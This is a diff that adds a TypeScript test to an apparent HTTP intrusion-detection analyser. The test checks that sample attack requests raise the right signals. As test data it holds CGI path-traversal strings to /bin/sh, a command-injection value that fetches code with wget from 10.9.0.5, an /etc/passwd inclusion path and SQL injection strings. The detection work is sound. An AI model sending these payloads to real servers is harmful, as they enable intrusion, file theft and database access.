@@ -219,3 +219,39 @@ test('http: a word in the method’s place, and a field that has swallowed anoth
   assert.equal(said.http.method, 'other');
   assert.ok(!JSON.stringify(said).includes('DOE'));
 });
+
+test('http: what only attacks ask for is noticed as a server would read it, and how it was answered', () => {
+  const signals = (target: string, status = '200 OK', ...fields: string[]): readonly string[] =>
+    play(
+      http,
+      sample(
+        'attack',
+        ['client', lines(`GET ${target} HTTP/1.1`, 'Host: a', ...fields)],
+        ['server', lines(`HTTP/1.1 ${status}`, 'Content-Length: 0')],
+      ),
+    ).signals;
+  const [exploit, command, file, query] = ['known-exploit', 'command-injection', 'file-inclusion', 'sql-injection'].map(
+    (name) => [`http.${name}`, `http.${name}.answered`],
+  );
+  assert.deepEqual(signals('/cgi-bin/.%2e/.%2e/.%2e/bin/sh'), exploit);
+  assert.deepEqual(signals('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh'.replaceAll('%%32%65', '%252e')), exploit);
+  assert.deepEqual(signals('/console/images/%252E%252E%252Fconsole.portal'), exploit);
+  assert.deepEqual(signals('/ping?ip=1;wget+http://10.9.0.5/x'), command);
+  assert.deepEqual(signals('/ping?ip=%7Cid'), command);
+  assert.deepEqual(signals('/view?f=../../etc//passwd'), file);
+  assert.deepEqual(signals('/p?id=1%27%20UNION/**/SELECT%201'), query);
+  assert.deepEqual(signals('/p?id=1%27+OR+%271%27=%271', '403 Forbidden'), [
+    'http.sql-injection',
+    'http.sql-injection.refused',
+  ]);
+  assert.deepEqual(signals('/p?id=1 UNION SELECT'), [], 'behind the space no target goes on');
+  for (const target of [
+    '/',
+    '/list?ids=1;id=2',
+    '/reunion-selected',
+    '/a?b=c|identity',
+    '/docs/../img/a.png',
+    '/%zz%2',
+  ])
+    assert.deepEqual(signals(target), [], target);
+});
